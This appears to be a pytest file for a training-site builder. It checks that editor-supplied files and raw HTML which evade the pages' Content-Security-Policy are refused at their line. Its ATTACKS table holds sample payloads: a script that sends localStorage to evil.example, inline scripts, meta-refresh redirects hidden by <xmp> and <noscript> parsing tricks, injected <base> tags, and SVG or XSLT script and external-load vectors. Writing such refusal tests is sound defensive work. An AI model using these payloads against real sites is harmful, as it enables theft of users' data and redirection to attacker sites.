"""What an editor's files could make the trainee's browser do beyond what every page's policy allows.

Every page carries a Content-Security-Policy (policy.py): scripts only from the
site's own files, nothing fetched from another site. So a file an editor puts
among the lessons must not be a script or a page of its own: a `.js` file is one
of "the site's own files" the moment it is published, and an HTML, XHTML or XML
page, an XSLT stylesheet or a diagram opened from its address runs its script
with the site's origin under no policy at all, where it reads every trainee's
progress and sends it anywhere. Raw HTML in a lesson must not load a script
(`<script src>`, an SVG `<script href>`), take the trainee elsewhere by itself
(`<meta http-equiv="refresh">`, which no policy governs) or move every link of
the page (`<base>`). A diagram opened from its address must fetch nothing from
another site (a stylesheet, an image, a font) and take no stylesheet that
rewrites it as a page (`<?xml-stylesheet?>`). A `template:` in front matter must
be a page that carries the policy. Each is refused at its line, with a hint, by
`academy check` and the build alike, and nothing is published.
"""

from __future__ import annotations

from pathlib import Path

import pytest

import sitekit
from sitekit import edit, line_of

LESSON = "content/journey/first-steps.md"
PARAGRAPH = "A shopper reads reviews before buying."
SVG_HEAD = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 100 40">\n'


def a_file(name: str, text: str, needle: str | None = None):
    """A file the editor adds under content/; the mistake is on the line holding `needle` (or line 1)."""
    def mistake(root: Path) -> tuple[str, int]:
        path = root / "content" / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="utf-8")
        return f"content/{name}", line_of(path, needle) if needle else 1
    return mistake


def a_diagram(body: str, needle: str, name: str = "journey/stages.svg"):
    return a_file(name, SVG_HEAD + body + '\n<text x="5" y="20">Stages</text>\n</svg>\n', needle)


def after_paragraph(text: str, needle: str):
    def mistake(root: Path) -> tuple[str, int]:
        edit(root / LESSON, PARAGRAPH, f"{PARAGRAPH}\n\n{text}")
        return LESSON, line_of(root / LESSON, needle)
    return mistake


def in_front_matter(line: str):
    def mistake(root: Path) -> tuple[str, int]:
        edit(root / LESSON, "title: First steps\n", f"title: First steps\n{line}\n")
        return LESSON, line_of(root / LESSON, line)
    return mistake


# each: (how to make it, words of the message)
ATTACKS = {
    "a script file among the lessons": (
        a_file("journey/help.js", "fetch('https://evil.example/?' + JSON.stringify(localStorage));\n"),
        "a browser runs it as a script"),
    "an HTML page among the lessons": (
        a_file("journey/help.html", "<!doctype html><script>fetch('https://evil.example/')</script>\n"),
        "a browser opens it as a page"),
    "an XHTML page among the lessons": (
        a_file("assets/help.xhtml", '<html xmlns="http://www.w3.org/1999/xhtml"><script>alert(1)</script></html>\n'),
        "a browser opens it as a page"),
    "an XML file holding an XHTML script": (
        a_file("assets/data.xml", '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>\n'),
        "a browser opens it as a page"),
    "an XSLT stylesheet": (
        a_file("assets/page.xsl", '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"/>\n'),
        "a browser opens it as a page"),
    "a compressed diagram": (
        a_file("assets/stages.svgz", "not read\n"),
        "a browser opens it as a page"),
    "a diagram whose name ends in capitals, with a script": (
        a_diagram("<script>fetch('https://evil.example/')</script>", "<script>", name="journey/stages.SVG"),
        "the diagram can run script: a <script> element"),
    "a script loaded by a lesson": (
        after_paragraph('<script src="../../assets/academy/academy.js"></script>', "<script src"),
        "the script ../../assets/academy/academy.js is loaded by a lesson"),
    "a script loaded by an SVG in a lesson": (
        after_paragraph('<svg><script href="../help.js"></script></svg>', "<svg><script"),
        "the script ../help.js is loaded by a lesson"),
    "a refresh that takes the trainee elsewhere": (
        after_paragraph('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "http-equiv"),
        'a <meta http-equiv="refresh"> in a lesson'),
    "a refresh hidden in an attribute that <xmp> ends early": (
        after_paragraph("""<xmp><p title="</xmp><meta http-equiv=refresh content='1;url=https://evil.example/'>">x</p></xmp>""",
                        "<xmp>"),
        'a <meta http-equiv="refresh"> in a lesson'),
    "a refresh hidden in an attribute that <noscript> ends early": (
        after_paragraph("""<noscript><p title="</noscript><meta http-equiv=refresh content='1;url=//evil.example/'>">x</p></noscript>""",
                        "<noscript>"),
        'a <meta http-equiv="refresh"> in a lesson'),
    "a base after a comment closed the way browsers also close one": (
        after_paragraph("Read on <!-- a note --!><base href='//evil.example/'> -->.", "a note"),
        "a <base> in a lesson"),
    "a script loaded from inside an SVG's style": (
        after_paragraph("<svg><style><script src='../../assets/academy/academy.js'></script></style></svg>", "<svg><style>"),
        "the script ../../assets/academy/academy.js is loaded by a lesson"),
    "a base that moves every link": (
        after_paragraph('<base href="../../ru/">', "<base"),
        "a <base> in a lesson"),
    "a link that connects to another site": (
        after_paragraph('<link rel="preconnect" href="https://evil.example">', "preconnect"),
        "a <link> in a lesson"),
    "a template that leaves out the page's policy": (
        in_front_matter("template: partials/content.html"),
        "the template 'partials/content.html' writes a page without the academy's head"),
    "a diagram that takes a stylesheet which rewrites it": (
        a_diagram('<?xml-stylesheet type="text/xsl" href="page.xsl"?>', "xml-stylesheet"),
        "the diagram can run script: it takes a stylesheet (<?xml-stylesheet?>)"),
    "a diagram whose style imports from another site": (
        a_diagram("<style>@import url(https://evil.example/a.css);</style>", "@import"),
        "the diagram loads https://evil.example/a.css from another site"),
    "a diagram with an image from another site": (
        a_diagram('<image href="https://evil.example/p.png" width="10" height="10"/>', "<image"),
        "the diagram loads https://evil.example/p.png from another site"),
    "a diagram filled from another site": (
        a_diagram('<rect width="9" height="9" style="fill: url( \'//evil.example/p.svg#g\' )"/>', "<rect"),
        "the diagram loads //evil.example/p.svg#g from another site"),
    "a diagram that uses a symbol from another site": (
        a_diagram('<use xlink:href="https://evil.example/s.svg#s"/>', "<use"),
        "the diagram loads https://evil.example/s.svg#s from another site"),
}


@pytest.mark.parametrize("name", list(ATTACKS))
def test_check_and_build_refuse_it_at_its_line_and_publish_nothing(site, name):
    make, words = ATTACKS[name]
    path, line = make(site)
    sitekit.refused_by_check(site, path, line, words)
    sitekit.refused_by_build(site, path, line)


def test_what_an_editor_means_passes(site):
    """Pictures, documents and data for trainees to download, a diagram with its own gradient, an embedded
    PNG and a link to another site, an inline script the policy stops, and <meta> or <script> in code."""
    for name, data in {"assets/photo.png": b"\x89PNG\r\n\x1a\n", "assets/guide.pdf": b"%PDF-1.4\n",
                       "assets/phrases.csv": b"a,b\n", "assets/script.txt": b"Hello.\n"}.items():
        (site / "content" / name).parent.mkdir(parents=True, exist_ok=True)
        (site / "content" / name).write_bytes(data)
    (site / "content/journey/stages.svg").write_text(
        SVG_HEAD + '<defs><linearGradient id="g"><stop offset="0"/></linearGradient></defs>\n'
        "<style>.a { fill: url(#g); }</style>\n"
        '<rect class="a" width="9" height="9" style="fill:url(&quot;#g&quot;)"/>\n'
        '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>\n'
        '<a href="https://example.com/guide"><text x="5" y="20">Stages</text></a>\n</svg>\n', encoding="utf-8")
    edit(site / LESSON, PARAGRAPH, PARAGRAPH + "\n\n![Stages](stages.svg)\n\n"
         "Type `<meta http-equiv=\"refresh\">` or `<script src=\"x.js\">` to see them as code.\n\n"
         "<script>window.counted = 1</script>")
    checked = sitekit.check(site)
    assert checked.returncode == 0, checked.stdout + checked.stderr
    built = sitekit.build(site)
    assert (built.site / "assets/guide.pdf").exists() and (built.site / "journey/stages.svg").exists()


def test_a_page_written_without_its_policy_is_never_published(site):
    """Whatever leaves the policy out of a page (here a theme override that empties the block holding it),
    the page is refused: its inline script would run."""
    (site / "overrides").mkdir()
    (site / "overrides/main.html").write_text('{% extends "academy.html" %}\n{% block site_meta %}{% endblock %}\n',
                                              encoding="utf-8")
    edit(site / "mkdocs.yml", "  name: material\n", "  name: material\n  custom_dir: overrides\n")
    built = sitekit.build(site, check=False).result
    output = built.stdout + built.stderr
    assert built.returncode != 0 and "Traceback" not in output, output
    assert f"{LESSON}:1: the page is written without its Content-Security-Policy" in output, output
    assert "hint: " in output
    assert not (site / "site").exists(), "nothing is published"
